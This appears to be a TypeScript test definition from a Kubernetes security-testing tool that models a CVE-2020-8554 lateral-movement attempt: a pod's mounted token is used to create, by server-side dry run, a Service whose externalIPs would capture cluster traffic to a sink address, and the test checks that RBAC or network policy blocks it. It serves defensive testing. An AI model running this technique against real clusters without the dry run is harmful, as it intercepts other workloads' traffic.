import type { V1Service } from '@kubernetes/client-node';
import type { AttemptContext } from '../../../core/domain/attack.ts';
import { defineAttack } from '../define-attack.ts';
import { blocked, cniDrop, cniEnforces } from '../expectation-builders.ts';
import { apiServerTokenPlan, podName } from '../plans.ts';
import { apiServerVersionControl } from '../controls.ts';
import { REF } from '../references.ts';
import { intruder } from '../attackers.ts';
import { SCENE } from '../../../manifests/scene.ts';

const ID = 'LM5';
const TAG = `a Service's externalIPs make kube-proxy capture every pod's traffic to that address; only admission refuses the field — ${REF.cve20208554.cite}; ${REF.denyServiceExternalIps.cite}`;
const SERVICES_PATH = `/api/v1/namespaces/${SCENE.namespaces.app}/services?dryRun=All`;

/**
 * The Service CVE-2020-8554 needs: externalIPs naming the sink, selecting the attempt's own pod, on the sink's HTTP
 * port. Created with `dryRun=All`: RBAC and every admission step (plugins, webhooks, ValidatingAdmissionPolicy) run,
 * nothing is stored, so no traffic of the cluster is ever intercepted by a run.
 */
export function interceptingService(context: AttemptContext): V1Service {
  const name = podName(ID, context.canary, 'attempt');
  const { sink } = context.addresses;
  return {
    apiVersion: 'v1',
    kind: 'Service',
    metadata: { name, namespace: SCENE.namespaces.app },
    spec: {
      selector: { [SCENE.appLabel]: name },
      ports: [{ name: 'http', protocol: 'TCP', port: sink.httpPort, targetPort: sink.httpPort }],
      externalIPs: [sink.ip],
    },
  };
}

/** Success means the API server would create the Service (HTTP 201 on the dry run); RBAC's 403 is a block by `api`. */
export const LM5 = defineAttack({
  id: ID,
  family: 'lateral-movement',
  title: "Create a Service whose externalIPs name the sink, with the pod's token (CVE-2020-8554, server-side dry run)",
  technique: `intruder reads its mounted token and POSTs ${SERVICES_PATH} a Service with spec.externalIPs = [the sink's IP] selecting itself: once stored, every pod's traffic to that address would reach intruder.`,
  preconditions: ['the token is automounted', 'the intruder service account has no RBAC grant on services'],
  references: [REF.cve20208554, REF.denyServiceExternalIps, REF.rbac, REF.serviceAccounts, REF.networkPolicy],
  success: 'client-signal',
  source: TAG,
  notApplicable: (stack) => (stack.isLab ? 'the lab has no API server and no kube-proxy (Services are DNS names only)' : undefined),
  attempt: (context) =>
    apiServerTokenPlan(intruder(context, ID, 'attempt').build(), context, { path: SERVICES_PATH, method: 'POST', body: JSON.stringify(interceptingService(context)) }),
  control: (context) => apiServerVersionControl(context, ID, LM5.attempt(context)),
  expect: (stack) => {
    if (cniEnforces(stack)) return cniDrop(`${TAG}; intruder's egress allow-list does not name the API server (${REF.rbac.cite})`, 'documented');
    return blocked(
      'api',
      'http-403',
      `${TAG}; RBAC: intruder has no grant to create services — ${REF.rbac.cite}`,
      'documented',
      'with a create grant on services only admission stops it: neither baseline nor hardened sets refuse externalIPs',
    );
  },
});
